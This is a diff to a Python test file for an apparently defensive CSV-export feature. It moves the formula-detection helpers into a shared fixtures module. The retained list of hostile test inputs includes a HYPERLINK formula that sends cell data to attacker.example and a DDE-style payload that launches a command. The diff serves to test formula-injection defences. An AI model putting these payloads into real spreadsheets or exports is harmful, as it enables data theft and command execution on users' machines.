@@ -3,22 +3,18 @@ lists, is a formula a spreadsheet would run; numbers stay numbers."""
 
 from __future__ import annotations
 
-import csv
 import io
-import re
 
 import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
+from tests.privacy_fixtures import cells_of, formula_cells
 from vawmap.dashboard.data import csv_bytes
 from vawmap.exports import defused
 from vawmap.ingest import ingest, render_problems
 from vawmap.template import LISTS_SHEET, build_template
 
-# Written out here, not read from vawmap/exports.py: OWASP's list is what is tested.
-FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
-PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
 HOSTILE_TEXTS = [
     '=HYPERLINK("http://attacker.example/?"&A1,"open")',
     "+cmd|' /C calc'!A0",
@@ -28,21 +24,6 @@ HOSTILE_TEXTS = [
     "\r=1+1",
     "  =1+1",
 ]
-
-
-def cells_of(data: bytes) -> list[list[str]]:
-    """The cells of a CSV download, as a spreadsheet reads them (byte-order mark dropped)."""
-    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
-
-
-def formula_cells(data: bytes) -> list[str]:
-    """Cells that start a formula: a formula lead first (spaces aside), unless a plain number."""
-    return [
-        cell
-        for row in cells_of(data)
-        for cell in row
-        if cell.lstrip(" ").startswith(FORMULA_LEADS) and not PLAIN_NUMBER.fullmatch(cell)
-    ]
 
 
 @pytest.mark.parametrize("text", HOSTILE_TEXTS)
